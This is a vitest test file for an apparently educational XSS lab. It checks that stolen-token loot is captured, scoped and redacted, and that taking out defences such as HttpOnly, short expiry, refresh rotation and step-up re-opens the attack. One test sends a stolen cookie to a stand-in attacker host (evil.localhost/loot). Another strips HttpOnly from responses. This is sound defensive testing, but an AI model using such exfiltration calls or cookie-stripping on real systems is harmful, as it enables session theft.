import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createXssBench } from "../../../server/attacks/xss-bench.ts";
import { createTestApplication, type TestApplication } from "../../../testing/test-application.ts";
import { enterLab, type Visitor } from "../../../testing/visitor.ts";
import type { XssBench } from "./bench.ts";
import type { PlayedRun } from "./model.ts";
import { createPageOfPlay } from "./page-of-play.ts";
import { recordedPlay } from "./recorded-play.ts";
import { heldPlaces, type XssRun, xssPlaces, xssRuns } from "./runs.ts";
import { tablesOf } from "./tables.ts";

let app: TestApplication;
let bench: XssBench;
beforeAll(async () => {
  app = await createTestApplication();
  bench = createXssBench(app);
});
afterAll(() => app.dispose());

const shop = "http://shop.localhost:3000";
const at = (host: "vulnerable" | "attacker", path: string, init: RequestInit = {}) =>
  app.attacks.answerAtHosts(host, new Request(path.startsWith("http") ? path : `${shop}${path}`, init));

/** Begins a play, opens its first page; answers the ticket. */
async function opened(visitor: Visitor): Promise<string> {
  const { body } = await visitor.post("/api/lab/xss");
  const redirected = await at("vulnerable", String(body["url"]));
  const [, , ticket = ""] = redirected.headers.get("location")?.split("/") ?? [];
  await at("vulnerable", `/xss/${ticket}/0`);
  return ticket;
}

const alice = JSON.stringify({ username: "alice", password: "alice-likes-tea", variant: "cookie/sealed" });
const asked = (ticket: string, body?: string) => ({
  method: body === undefined ? "GET" : "POST",
  headers: { cookie: `__Host-attack=${ticket}`, "content-type": "application/json", "sec-fetch-site": "same-origin" },
  ...(body !== undefined && { body }),
});

describe("the vulnerable host", () => {
  test("opens a page once by its code, and takes a flow's calls with the page's ticket into a lab of its own", async () => {
    const visitor = await enterLab(app);
    const ticket = await opened(visitor);
    const answer = await at("vulnerable", "/api/cookie/login", asked(ticket, alice));
    expect([answer.status, answer.headers.getSetCookie().join()]).toEqual([
      200,
      expect.not.stringContaining("__Host-lab"),
    ]);
    expect((await visitor.get("/api/audit")).text).not.toContain("logged-in");
  });

  test("has no address of a lab, no other flow's than the page's, and none without a ticket", async () => {
    const visitor = await enterLab(app);
    const ticket = await opened(visitor);
    for (const path of ["/api/lab", "/api/lab/reset", "/api/admin/users", "/api/hybrid/me", "/api/cookie/sessions"]) {
      expect([path, (await at("vulnerable", path, asked(ticket))).status]).toEqual([path, 404]);
    }
    expect((await at("vulnerable", "/api/cookie/login", asked("nonsense", alice))).status).toBe(404);
    expect((await at("vulnerable", `/loot/${ticket}?text=a`)).status).toBe(404);
  });

  test("serves the injected script at the attacker's host alone", async () => {
    const ticket = await opened(await enterLab(app));
    const paths = [`/xss/${ticket}/injected.js`, `/xss/${ticket}/shop.js`];
    const statuses = async (host: "vulnerable" | "attacker") =>
      Promise.all(paths.map(async (path) => (await at(host, path)).headers.get("content-type")?.split(";")[0]));
    expect(await statuses("attacker")).toEqual(["text/javascript", "text/plain"]);
    expect((await statuses("vulnerable"))[1]).toBe("text/javascript");
  });

  test("answers nothing to a step that is none", async () => {
    const ticket = await opened(await enterLab(app));
    for (const body of ["{", "{}", '{"did":"nonsense"}']) {
      expect([body, (await at("vulnerable", `/xss/${ticket}/steps`, asked(ticket, body))).status]).toEqual([body, 404]);
    }
  });
});

describe("a play", () => {
  test("keeps what arrived and no credential, and is its own lab's alone", async () => {
    const [visitor, other] = [await enterLab(app), await enterLab(app)];
    const ticket = await opened(visitor);
    await at("vulnerable", "/api/cookie/login", asked(ticket, alice));
    await at(
      "vulnerable",
      `/xss/${ticket}/steps`,
      asked(ticket, JSON.stringify({ did: "login", status: 200, login: 1 })),
    );
    const loot = JSON.stringify({ login: 1, way: "reads", got: { cookie: "__Host-login=a-stolen-value" } });
    await at("attacker", `http://evil.localhost:3000/loot/${ticket}`, { method: "POST", body: loot });
    await at("vulnerable", `/xss/${ticket}/1`);
    const { play } = (await visitor.get("/api/lab/xss")).body as { play: { runs: PlayedRun[] } };
    expect(play.runs[0]).toMatchObject({
      tried: true,
      loot: [{ login: 1, way: "reads", got: ["access"], arrived: "fetch" }],
    });
    expect(JSON.stringify(play)).not.toContain("stolen-value");
    expect((await other.get("/api/lab/xss")).body).toEqual({ play: null });
  });

  test("has one page open at a time, and leaves no lab behind when its own is reset", async () => {
    const visitor = await enterLab(app);
    const labs = () => app.database.client.lab.count();
    const before = await labs();
    const ticket = await opened(visitor);
    await Promise.all([0, 0, 1].map((index) => at("vulnerable", `/xss/${ticket}/${index}`)));
    expect(await labs()).toBe(before + 1);
    for (const page of ["abc", "1e1", "-1", "100"]) {
      expect([page, (await at("vulnerable", `/xss/${ticket}/${page}`)).status]).toEqual([page, 404]);
    }
    await visitor.post("/api/lab/reset");
    // Gone are its own, and that of the page.
    await expect.poll(labs).toBe(before - 1);
  });

  test("keeps a hundred pieces of loot of a page, and takes no line feed for a part of a credential", async () => {
    const page = await createPageOfPlay({ bench, flows: app.flows }, xssRuns[0] as XssRun);
    const sent = (got: object) =>
      page.looted({ at: "", page: "xss", dest: "empty", text: JSON.stringify({ login: 1, way: "reads", got }) });
    sent({ cookie: "__Host-login=a\nb" });
    for (let count = 0; count < 300; count += 1) sent({ cookie: `__Host-login=value-${count}` });
    await page.step({ did: "login", status: 200, login: 1 });
    const { loot } = await page.leave();
    expect(loot.length).toBeLessThanOrEqual(100);
  });

  test("cannot begin where the hosts do not lead here", async () => {
    const away = await createTestApplication({ LOGINSCOPE_ORIGIN: "https://login.example" });
    const reply = await (await enterLab(away)).post("/api/lab/xss");
    expect([reply.code, String(reply.body["detail"])]).toEqual([
      "UNPROCESSABLE",
      expect.stringContaining("VULNERABLE_ORIGIN"),
    ]);
    await away.dispose();
  });
});

/**
 * A page without a browser: what a script can reach of a login is each cookie without HttpOnly, and each token in the
 * body of an answer, unless a worker gets it.
 */
async function playedInProcess(run: XssRun, labs: XssBench): Promise<PlayedRun> {
  const page = await createPageOfPlay({ bench: labs, flows: app.flows }, run);
  const { flow, variant } = run.place;
  const [jar, readable] = [new Map<string, string>(), new Map<string, string>()];
  let tokens: { readonly access?: string; readonly refresh?: string } = {};
  const ask = async (action: string, body: object) => {
    const headers = new Headers({ "content-type": "application/json", "sec-fetch-site": "same-origin" });
    headers.set("cookie", [...jar].map((pair) => pair.join("=")).join("; "));
    if (tokens.access) headers.set("authorization", `Bearer ${tokens.access}`);
    const sent = new Request(`${shop}/api/${flow}/${action}`, { method: "POST", headers, body: JSON.stringify(body) });
    const answer = await page.forward(sent);
    for (const line of answer?.headers.getSetCookie() ?? []) {
      const [, name = "", value = ""] = /^([^=]+)=([^;]*)/.exec(line) ?? [];
      jar.set(name, value);
      if (!/; HttpOnly/i.test(line) && !name.includes("device")) readable.set(name, value);
    }
    const told = answer?.ok ? await answer.json() : {};
    if (told.access_token) tokens = { access: told.access_token, refresh: told.refresh_token };
    return answer?.status ?? 0;
  };
  const status = await ask("login", { username: "alice", password: "alice-likes-tea", variant });
  const got = { cookie: [...readable].map((pair) => pair.join("=")).join("; "), ...(run.inWorker ? {} : tokens) };
  page.looted({ at: "", page: "xss", dest: "empty", text: JSON.stringify({ login: 1, way: "reads", got }) });
  await page.step({ did: "login", status, login: 1 });
  if (run.plan === "short" || run.plan === "step-up") await page.step({ did: "time" });
  if (run.plan === "step-up") await ask("transfer", { to: "bob", amount: 60 });
  if (run.plan === "reuse") {
    await page.step({ did: "thief-renews" });
    await ask("refresh", tokens.refresh ? { refresh_token: tokens.refresh } : {});
    await page.step({ did: "owner-renews" });
  }
  return page.leave();
}

const runOf = (id: string): XssRun => {
  const run = xssRuns.find((each) => each.id === id);
  if (!run) throw new Error(`There is no run ${id}`);
  return run;
};

const copied = (runs: readonly PlayedRun[], id: string) =>
  [
    ...new Set(
      runs
        .find((run) => run.id === id)
        ?.loot.filter(({ way }) => way === "reads" || way === "wraps")
        .flatMap(({ got }) => got),
    ),
  ].sort();

test("what a browser's script copied at each place is what the attributes of cookies and the bodies of answers let it reach", async () => {
  const ids = [...xssPlaces.map(({ id }) => `whole ${id}`), ...heldPlaces.map(({ id }) => `worker ${id}`)];
  const played = await Promise.all(ids.map((id) => playedInProcess({ ...runOf(id), plan: "once" }, bench)));
  expect(ids.map((id) => [id, copied(played, id)])).toEqual(ids.map((id) => [id, copied(recordedPlay.runs, id)]));
});

/** The same labs behind an edge whose answers were changed. */
const answering = (change: (answer: Response) => Promise<Response> | Response): XssBench => ({
  async open(settings) {
    const lab = await bench.open(settings);
    return { ...lab, transport: async (request) => change(await lab.transport(request)) };
  },
});

const withoutHttpOnly = answering((answer) => {
  const headers = new Headers(answer.headers);
  headers.delete("set-cookie");
  for (const line of answer.headers.getSetCookie()) headers.append("set-cookie", line.replace(/; HttpOnly/i, ""));
  return new Response(answer.body, { status: answer.status, headers });
});

const isIn = ({ status }: { readonly status: number }) => status === 200;
const last = <T>(list: readonly T[]): T | undefined => list.at(-1);

describe("a defence of the server that is taken out lets the thief in again", () => {
  test("HttpOnly", async () => {
    const run = { ...runOf("whole server-session/sql"), plan: "once" } as const;
    expect(copied([await playedInProcess(run, bench)], run.id)).toEqual([]);
    const open = await playedInProcess(run, withoutHttpOnly);
    expect(copied([open], run.id)).toEqual(["access"]);
    expect(open.replays).toEqual([{ after: "open", what: "access", again: false, status: 200, code: null }]);
  });

  test("a refresh token out of the script's reach", async () => {
    const [apart, beside] = ["whole memory-jwt/session-storage", "whole memory-jwt/local-storage"].map(runOf);
    const reach = async (run: XssRun | undefined) =>
      run && copied([await playedInProcess({ ...run, plan: "once" }, bench)], run.id);
    expect([await reach(apart), await reach(beside)]).toEqual([["access"], ["access", "refresh"]]);
  });

  test("a short exp", async () => {
    const run = runOf("short memory-jwt/rotating");
    const late = async (labs: XssBench) => last((await playedInProcess(run, labs)).replays);
    expect(await late(bench)).toMatchObject({ after: "time", code: "EXPIRED" });
    expect(await late({ open: () => bench.open({}) })).toMatchObject({ after: "time", status: 200 });
  });

  test("rotation with reuse detection", async () => {
    const renewals = async (id: string) =>
      (await playedInProcess(runOf(id), bench)).replays.filter(({ what }) => what === "refresh");
    const [rotated, kept] = [
      await renewals("reuse memory-jwt/local-storage"),
      await renewals("reuse hybrid/short-jwt readable"),
    ];
    expect([rotated.map(isIn), last(rotated)?.code]).toEqual([[true, false], "REVOKED"]);
    expect(kept.map(isIn)).toEqual([true, true]);
  });

  test("step-up", async () => {
    const run = runOf("step-up server-session/sql");
    const acted = async (labs: XssBench) => last((await playedInProcess(run, labs)).acts);
    expect(await acted(bench)).toMatchObject({ amount: 60, code: "REAUTHENTICATION_REQUIRED" });
    const fresh: XssBench = { open: async (settings) => ({ ...(await bench.open(settings)), pass: async () => {} }) };
    expect(await acted(fresh)).toMatchObject({ amount: 60, status: 200 });
  });
});

test("a play that was not reached has no cells", () => {
  const { ways, defences } = tablesOf([]);
  expect([ways, defences.flatMap(({ cells }) => Object.keys(cells))]).toEqual([[], []]);
});
